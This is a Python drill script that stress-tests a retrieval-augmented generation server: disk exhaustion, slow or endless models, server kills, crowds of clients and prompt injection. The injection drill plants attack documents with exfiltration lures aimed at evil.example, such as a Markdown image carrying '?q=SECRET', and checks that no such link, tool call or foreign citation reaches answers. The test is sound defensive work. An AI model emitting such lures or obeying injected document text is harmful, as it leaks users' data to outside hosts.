#!/usr/bin/env python3
"""Breaks the surroundings of a running server and checks its promises: drill.py RAG [NAME ..] [--short].

Each drill starts RAG with a PostgreSQL of its own, prints what it measured, and fails if a promise is broken. `--short` takes
seconds per drill instead of minutes. The full disk needs root, to mount a small file system; without root it is left out.
"""

import argparse
import collections
import contextlib
import http.client
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time

from backup import backup
from failover import failover
from kill import kill
from metrics import metrics
from model_switch import model_switch
from mutations import mutations
from server import WORDS, FakeModels, Server, pages, serving, text, unread_stream, wait_until
from tls import tls


# Free space that stays free in the drill of a disk that fills up.
RESERVE_MB = 100


def share(times, part):
    return sorted(times)[min(len(times) - 1, int(len(times) * part))] * 1e3


def full_disk(rag, short):
    """A disk full to the last byte for a while: uploads are refused with 507 or 503, acknowledged documents are all read afterwards."""
    with small_disk(420) as folder:
        if folder:
            # Without a reserve, as if another program filled the disk.
            with serving(rag, {"postgres.min_free_mb": 0}, folder) as server:
                fill_the_disk(server, folder, 8 if short else 120, 30 if short else 80)


def low_disk(rag, short):
    """A disk that fills up to the reserve: nothing is stored, everything else goes on, PostgreSQL lives, and storing goes on by itself."""
    with small_disk(900) as folder:
        if folder:
            with serving(rag, {"postgres.min_free_mb": RESERVE_MB}, folder) as server:
                use_up_to_the_reserve(server, folder, 8 if short else 120)


@contextlib.contextmanager
def small_disk(megabytes):
    """The folder of a small file system; None if this machine lets nobody mount one."""
    if os.geteuid() != 0:
        print("  left out: mounting a small file system needs root")
        yield None
        return
    with tempfile.TemporaryDirectory(prefix="rag-drill-", ignore_cleanup_errors=True) as folder:
        os.chmod(folder, 0o755)
        mount = ["mount", "-t", "tmpfs", "-o", f"size={megabytes}m,mode=755", "tmpfs", folder]
        if subprocess.run(mount, stderr=subprocess.DEVNULL).returncode:
            print("  left out: this machine lets nobody mount a file system")
            yield None
            return
        try:
            yield folder
        finally:
            # Lazily: a process of PostgreSQL may still be ending.
            subprocess.run(["umount", "--lazy", folder], check=True)


def use_up_to_the_reserve(server, folder, low_s):
    collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
    first = [server.upload(collection, f"first {n}.txt", text(n).encode())[1] for n in range(3)]
    server.wait_for_jobs([answer["job"]["id"] for answer in first], 120)
    postmaster = open(f"{folder}/data/pgdata/postmaster.pid").readline()
    others, stop = collections.Counter(), threading.Event()

    def ask():
        while not stop.is_set():
            others["search", server.call("POST", "/v1/search", {"query": "harbour"})[0]] += 1
            others["question", server.call("POST", "/v1/ask", {"question": "Where is the harbour?"})[0]] += 1
            time.sleep(0.05)

    asker = threading.Thread(target=ask)
    asker.start()
    jobs, refused, ballast, number = [], collections.Counter(), f"{folder}/ballast", 0
    try:
        # Another program's file leaves little above the reserve, and grows until that is gone.
        with open(ballast, "wb", buffering=0) as file:
            file.write(bytes(free_mb(folder) - RESERVE_MB - 8 << 20))
            until = 0
            while not until or time.monotonic() < until:
                number += 1
                status, answer = server.upload(collection, f"{number}.txt", (text(number) * 40).encode())
                if status < 300:
                    jobs.append(answer["job"]["id"])
                    file.write(bytes(1 << 20))
                else:
                    refused[status] += 1
                    until = until or time.monotonic() + low_s
                    time.sleep(0.1)
        least = free_mb(folder)
        assert server.ok("GET", "/ready")["read_only"], "the server does not say that it stores nothing"
        server.ok("DELETE", f"/v1/documents/{first[0]['document']['id']}")
        open_jobs = [job for job in jobs if server.ok("GET", f"/v1/jobs/{job}")["state"] == "queued"]
        os.remove(ballast)
        since = time.monotonic()
        wait_until(lambda: server.upload(collection, "after.txt", text(0).encode())[0] < 300, "storing does not go on", 30)
        recovered = time.monotonic() - since
        states = collections.Counter(server.wait_for_jobs(jobs, 600).values())
    finally:
        stop.set()
        asker.join()
    print(f"  {len(jobs)} acknowledged, {dict(states)}, of which {len(open_jobs)} waited; refused: {dict(refused)}; "
          f"{least} MB were left of a reserve of {RESERVE_MB}")
    print(f"  meanwhile: {dict(others)}; stored again {recovered:.1f} s after there was room")
    assert states["done"] == len(jobs), "an acknowledged document was lost"
    assert set(refused) == {507}, "a refusal is not 507"
    assert {status for _, status in others} == {200}, "a search or a question was refused"
    assert least > RESERVE_MB // 2, "the reserve was used up"
    assert open(f"{folder}/data/pgdata/postmaster.pid").readline() == postmaster, "PostgreSQL was started again"
    assert "PANIC" not in open(f"{folder}/data/postgres.log").read(), "PostgreSQL panicked"


def free_mb(folder):
    return shutil.disk_usage(folder).free >> 20


def fill_the_disk(server, folder, full_s, documents):
    collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
    jobs, refused = [], collections.Counter()
    ballast, number = f"{folder}/ballast", 0
    until = 0
    while not until or time.monotonic() < until:
        number += 1
        status, answer = server.upload(collection, f"{number}.txt", (text(number) * 40).encode())
        if status < 300:
            jobs.append(answer["job"]["id"])
        else:
            refused[status] += 1
            time.sleep(0.2)
        if not until and number >= documents:
            with open(ballast, "wb", buffering=0) as file:
                try:
                    while file.write(bytes(1 << 16)):
                        pass
                except OSError:
                    pass
            until = time.monotonic() + full_s
    os.remove(ballast)
    states = collections.Counter(server.wait_for_jobs(jobs, 600).values())
    print(f"  {len(jobs)} acknowledged, {dict(states)}; refused while full: {dict(refused)}")
    assert states["done"] == len(jobs), "an acknowledged document was lost"
    assert refused and set(refused) <= {503, 507}, "an upload to a full disk is 507 or 503"


def slow_embedder(rag, short):
    """A slow embedding server slows only the requests that wait for it."""
    models = FakeModels()
    with serving(rag, models.embedding_settings()) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        jobs = [server.upload(collection, f"{n}.txt", text(n).encode())[1]["job"]["id"] for n in range(20)]
        server.wait_for_jobs(jobs, 120)
        models.pause_s = 4 if short else 30
        seconds = 3 if short else 20

        def others():
            times, statuses, until = [], collections.Counter(), time.monotonic() + seconds
            while time.monotonic() < until:
                since = time.monotonic()
                statuses[server.call("POST", "/v1/search", {"query": "harbour", "mode": "lexical"})[0]] += 1
                times.append(time.monotonic() - since)
                statuses[server.call("GET", "/ready")[0]] += 1
            return share(times, 0.99), statuses

        alone, _ = others()
        askers = [threading.Thread(target=server.call, args=("POST", "/v1/ask", {"question": "Where is the harbour?"}))
                  for _ in range(32)]
        for asker in askers:
            asker.start()
        beside, statuses = others()
        for asker in askers:
            asker.join()
        print(f"  another client's search, p99: {alone:.0f} ms alone, {beside:.0f} ms beside 32 waiting questions; {dict(statuses)}")
        assert set(statuses) == {200}, "somebody was refused"
        # The askers are threads of this program, too: a few milliseconds are its own.
        assert beside <= 2 * alone + (200 if short else 20), "those who do not wait for the embedder were slowed"


def endless_model(rag, short):
    """A chat model that never ends is stopped at the maximum length, within bounded memory, on every path."""
    models = FakeModels()
    with serving(rag, models.chat_settings()) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)
        before, rounds = server.resident_mb(), 3 if short else 30
        for _ in range(rounds):
            answer = server.ok("POST", "/v1/ask", {"question": "Where is the harbour of the keeper?"})["answer"]
            assert answer["stop_reason"] == "length", answer
            assert len(answer["text"]) <= 40_000
        grown = server.resident_mb() - before
        wait_until(lambda: models.chats_open == 0, "a model goes on after its answer was stopped", 10)
        # Slowly, so that the client leaves long before the maximum length.
        models.piece, models.piece_s = "lantern and ferry ", 0.05
        connection = http.client.HTTPConnection(server.host)
        connection.request("POST", "/v1/ask", json.dumps({"question": "Where is the lantern?"}), {"content-type": "application/json"})
        wait_until(lambda: models.chats_open > 0, "the model is not asked", 30)
        connection.close()
        since = time.monotonic()
        wait_until(lambda: models.chats_open == 0, "a model goes on after its client left", 10)
        print(f"  {rounds} answers stopped at their length, memory grew by {grown:.0f} MB; "
              f"the model stopped {time.monotonic() - since:.1f} s after its client left")
        assert grown < 100


def deaf_client(rag, short):
    """Clients that do not read hold up neither the server's end nor its memory."""
    models = FakeModels()
    with serving(rag, models.chat_settings()) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)
        streams = [unread_stream(server, "Where is the harbour of the keeper?") for _ in range(8 if short else 50)]
        time.sleep(2)
        memory, took = server.resident_mb(), server.stop()
        print(f"  {len(streams)} clients that do not read: {memory:.0f} MB, ended {took:.1f} s after SIGTERM")
        assert took < 15
        for stream in streams:
            stream.close()


def kill_in_answer(rag, short):
    """The server is killed in the middle of answers: each question is kept, its answer is marked as interrupted, and it can be answered again."""
    models = FakeModels(piece="lantern and ferry ", piece_s=0.02)
    settings = {**models.chat_settings(), "answer.max_answer_chars": 1500}
    with tempfile.TemporaryDirectory(prefix="rag-drill-") as folder:
        os.chmod(folder, 0o755)
        server, took, kept = Server(rag, folder, settings).start(), [], []
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)
        rounds = 3 if short else 20
        for round_number in range(rounds):
            connection = http.client.HTTPConnection(server.host, timeout=60)
            connection.request("POST", "/v1/ask", json.dumps({"question": "Where is the harbour of the keeper?"}),
                               {"content-type": "application/json", "accept": "text/event-stream"})
            stream, read = connection.getresponse(), b""
            # A killed server loses at most the events of the last moments.
            while read.count(b"event: token") < 15 + random.Random(round_number).randrange(30):
                read += stream.read1()
            turn = json.loads(read.split(b"event: turn\ndata: ")[1].split(b"\n")[0])
            server.kill()
            server, since = Server(rag, folder, settings).start(), time.monotonic()
            messages = f"/v1/sessions/{turn['session_id']}/messages"
            wait_until(lambda: len(server.ok("GET", messages)["items"]) == 2, "the interrupted turn does not end", 60)
            took.append(time.monotonic() - since)
            question, answer = server.ok("GET", messages)["items"]
            assert question["id"] == turn["question_id"] and "turn_id" not in question, question
            assert (answer["id"], answer["outcome"]) == (turn["message_id"], "interrupted"), answer
            assert answer["text"].startswith("lantern and ferry lantern"), answer
            kept.append(len(answer["text"]))
            status, rest = server.call("GET", f"{messages}/{turn['message_id']}/events", headers={"last-event-id": str(read.count(b"\nevent: "))})
            assert status == 200 and rest.count(b'"outcome":"interrupted"') == 1, rest
            again = server.ok("POST", f"{messages}/{turn['message_id']}/regenerate", {})["answer"]
            assert again["stop_reason"] == "length", again
            assert len(server.ok("GET", messages)["items"]) == 3
        print(f"  {rounds} kills in mid-answer: honest {max(took):.1f} s after the restart at most; {min(kept)} to {max(kept)} characters kept")
        server.stop()


def ai_sdk(rag, short):
    """The AI SDK's own client reads streams and sources, resumes after it has left, stops and regenerates."""
    here = os.path.dirname(os.path.abspath(__file__))
    npm = os.path.join(here, "..", "npm")
    with tempfile.TemporaryDirectory(prefix="rag-drill-") as folder:
        for name in ("package.json", "package-lock.json", "check.mjs"):
            shutil.copy(os.path.join(here, "ai_sdk", name), folder)
        install = subprocess.run([npm, "--prefix", folder, "ci", "--silent", "--no-audit", "--no-fund"], capture_output=True, text=True)
        if install.returncode == 127:
            return print("  left out: Node.js is missing")
        assert install.returncode == 0, install.stderr
        models = FakeModels(piece="lantern and ferry ", piece_s=0.02)
        with serving(rag, {**models.chat_settings(), "answer.max_answer_chars": 1500}) as server:
            collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
            server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)
            check = [npm, "--prefix", folder, "run", "--silent", "check", "--", f"http://{server.host}"]
            done = subprocess.run(check, capture_output=True, text=True, timeout=120)
            assert done.returncode == 0, done.stdout + done.stderr
            print(f"  {done.stdout.strip()}")


def crowd(rag, short):
    """Three hundred clients at once: nobody is refused, and /ready answers throughout."""
    clients, seconds = (60, 4) if short else (300, 20)
    with serving(rag) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        jobs = [server.upload(collection, f"{n}.txt", text(n).encode())[1]["job"]["id"] for n in range(100)]
        server.wait_for_jobs(jobs, 300)
        statuses, times, until = collections.Counter(), [], time.monotonic() + seconds

        def client(number):
            connection = http.client.HTTPConnection(server.host, timeout=120)
            while time.monotonic() < until:
                query = json.dumps({"query": WORDS[number % len(WORDS)], "mode": "lexical"})
                since = time.monotonic()
                connection.request("POST", "/v1/search", query, {"content-type": "application/json"})
                answer = connection.getresponse()
                answer.read()
                times.append(time.monotonic() - since)
                statuses[answer.status] += 1

        threads = [threading.Thread(target=client, args=(number,)) for number in range(clients)]
        for thread in threads:
            thread.start()
        ready = collections.Counter()
        while time.monotonic() < until:
            ready[server.call("GET", "/ready")[0]] += 1
            time.sleep(0.1)
        for thread in threads:
            thread.join()
        print(f"  {clients} clients for {seconds} s: {dict(statuses)}, p50 {share(times, 0.5):.0f} ms, p99 {share(times, 0.99):.0f} ms; /ready {dict(ready)}")
        assert set(statuses) == {200} and set(ready) == {200}


def stream_readers(rag, short):
    """A thousand readers of streams, a fifth of them slow: others are answered as fast, memory is bounded, no connection is held."""
    readers, slow, seconds = (100, 20, 4) if short else (1000, 200, 20)
    here = os.path.dirname(os.path.abspath(__file__))
    models = FakeModels(piece="lantern and ferry " * 5, piece_s=0.1)
    # One connection of each kind: if a reader held one, nobody else would be answered.
    settings = {**models.chat_settings(), "answer.max_answer_chars": 400_000, "database.max_connections": 3}
    with serving(rag, settings) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        server.wait_for_jobs([server.upload(collection, "a.txt", text(1).encode())[1]["job"]["id"]], 120)

        def others():
            times, statuses, until = [], collections.Counter(), time.monotonic() + seconds
            connection = http.client.HTTPConnection(server.host, timeout=30)
            while time.monotonic() < until:
                for path, kept in (("/health", times), ("/v1/collections", [])):
                    since = time.monotonic()
                    connection.request("GET", path)
                    answer = connection.getresponse()
                    answer.read()
                    kept.append(time.monotonic() - since)
                    statuses[answer.status] += 1
                time.sleep(0.005)
            return share(times, 0.5), share(times, 0.99), statuses

        turns = [begin_turn(server) for _ in range(4)]
        paths = [f"/v1/sessions/{turn['session_id']}/messages/{turn['message_id']}/events" for _, turn in turns]
        program = [sys.executable, f"{here}/stream_readers.py", server.host]
        # So that the server has its threads before its memory is measured.
        subprocess.run([*program, str(readers // 2), "0", *paths], input=b"", check=True, capture_output=True)
        alone = others()
        before = server.resident_mb()
        crowd_of_readers = subprocess.Popen([*program, str(readers), str(slow), *paths], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        try:
            assert crowd_of_readers.stdout.readline() == "open\n", "a stream does not begin"
            beside = others()
            grown = (server.resident_mb() - before) * 1024 / readers
            crowd_of_readers.stdin.write("\n")
            crowd_of_readers.stdin.flush()
            seen = json.loads(crowd_of_readers.stdout.readline())
        finally:
            crowd_of_readers.kill()
            crowd_of_readers.wait()
        for connection, _ in turns:
            connection.close()
        print(f"  {readers} readers, {slow} of them slow: {seen['open']} open, at least {seen['fewest']} events each, at most {seen['behind']} behind; /health p50 {beside[0]:.1f} ms, "
              f"p99 {beside[1]:.1f} ms (alone {alone[0]:.1f} and {alone[1]:.1f}); {grown:.1f} kB a stream; others {dict(beside[2])}")
        assert seen["open"] == readers and set(beside[2]) == {200}
        assert seen["fewest"] > 0 and seen["behind"] <= 20, "some readers lag behind"
        assert grown <= 20, "streams take memory"
        assert beside[1] <= alone[1] + 50, "others are slowed"


def injection(rag, short):
    """Attacks in documents, with a chat model that obeys all of them: no tool is called, nothing foreign is cited, no address leads out."""
    path = os.environ.get("INJECTION")
    if not path:
        return print("  left out: INJECTION names no JSON Lines file of attacks with a field `text`")
    lures = ["![logo](https://evil.example/p.png?q=SECRET)", "[click here](https://evil.example/login) [1]", "<img src=https://evil.example/x.png>",
             "<https://evil.example/auto> https://evil.example/bare www.evil.example", "[plan][p]\n\n[p]: https://evil.example/r", "[go](//evil.example) [99]"]
    with open(path) as file:
        attacks = [json.loads(line)["text"] for line in file]
    attacks = random.Random(7).sample(attacks, 40 if short else len(attacks))
    models = FakeModels(is_obedient=True)
    with serving(rag, {**models.chat_settings(), **models.embedding_settings()}) as server:
        collection = server.ok("POST", "/v1/collections", {"name": "drill"})["id"]
        stored = [server.upload(collection, f"{n}.txt", f"{attack} {lures[n % len(lures)]}".encode())[1] for n, attack in enumerate(attacks)]
        states = server.wait_for_jobs([one["job"]["id"] for one in stored], 900)
        # An attack of HTML without any text is refused as an empty document.
        known = {one["document"]["id"] for one in stored if states[one["job"]["id"]] == "done"}
        refused, found = sum(state == "refused" for state in states.values()), collections.Counter()
        for attack in attacks:
            question = attack[:300].replace('"', " ") or "What?"
            answer = server.ok("POST", "/v1/ask", {"question": question})["answer"]
            found["answers"] += 1
            found["lures repeated"] += "evil.example" in answer["text"]
            found["addresses that lead out"] += leads_out(answer["text"])
            found["foreign citations"] += sum(citation["document_id"] not in known for citation in answer["citations"])
            chat = {"model": "rag", "messages": [{"role": "user", "content": question}]}
            choice = server.ok("POST", "/openai/v1/chat/completions", chat)["choices"][0]
            found["tool calls"] += bool(choice["message"].get("tool_calls")) or choice["finish_reason"] == "tool_calls"
            found["addresses that lead out"] += leads_out(choice["message"]["content"])
        left = sum(1 for _ in pages(server, f"/v1/collections/{collection}/documents"))
        print(f"  {len(attacks)} attacks: {dict(found)}; {left} of {len(known)} documents are left, {refused} refused")
        assert found["lures repeated"] > 0, "the model does not obey, so nothing is shown"
        assert left == len(known) and refused <= len(attacks) / 100
        assert not any(found[name] for name in ("addresses that lead out", "foreign citations", "tool calls"))


def leads_out(answer):
    """Whether a page that shows the answer as Markdown would have an address outside of code."""
    outside, fence = [], None
    for line in answer.split("\n"):
        mark = re.match(r" {0,3}(`{3,}|~{3,})(.*)$", line)
        if fence:
            if mark and mark[1].startswith(fence) and not mark[2].strip():
                fence = None
        elif mark and not (mark[1][0] == "`" and "`" in mark[2]):
            fence = mark[1]
        else:
            outside.append(line)
    spans = re.sub(r"(?s)(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)", "", "\n".join(outside))
    return bool(re.search(r"https?://|www\.|\]\(\s*<?//|(?<!\\)<[a-z!/]", spans, re.IGNORECASE))


def begin_turn(server):
    """A turn whose chat model writes: its connection and its ids."""
    connection = http.client.HTTPConnection(server.host, timeout=60)
    connection.request("POST", "/v1/ask", json.dumps({"question": "Where is the harbour of the keeper?"}),
                       {"content-type": "application/json", "accept": "text/event-stream"})
    stream, read = connection.getresponse(), b""
    while b"event: token" not in read:
        read += stream.read1()
    return connection, json.loads(read.split(b"event: turn\ndata: ")[1].split(b"\n")[0])


DRILLS = [low_disk, full_disk, slow_embedder, endless_model, deaf_client, kill, kill_in_answer, ai_sdk, stream_readers, injection, mutations, crowd, tls, metrics, backup, model_switch, failover]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("rag", help="the program")
    parser.add_argument("names", nargs="*", help=f"drills to run; all: {', '.join(drill.__name__ for drill in DRILLS)}")
    parser.add_argument("--short", action="store_true", help="take seconds per drill")
    arguments = parser.parse_args()
    unknown = set(arguments.names) - {drill.__name__ for drill in DRILLS}
    if unknown:
        parser.error(f"there is no drill {', '.join(sorted(unknown))}")
    failed = []
    for drill in DRILLS:
        if arguments.names and drill.__name__ not in arguments.names:
            continue
        print(f"{drill.__name__}: {drill.__doc__}", flush=True)
        since = time.monotonic()
        try:
            drill(arguments.rag, arguments.short)
        except Exception as failure:  # a drill that breaks off is a drill that failed
            failed.append(drill.__name__)
            print(f"  FAILED: {type(failure).__name__}: {failure}")
        print(f"  {time.monotonic() - since:.0f} s", flush=True)
    sys.exit(f"failed: {', '.join(failed)}" if failed else 0)


if __name__ == "__main__":
    main()
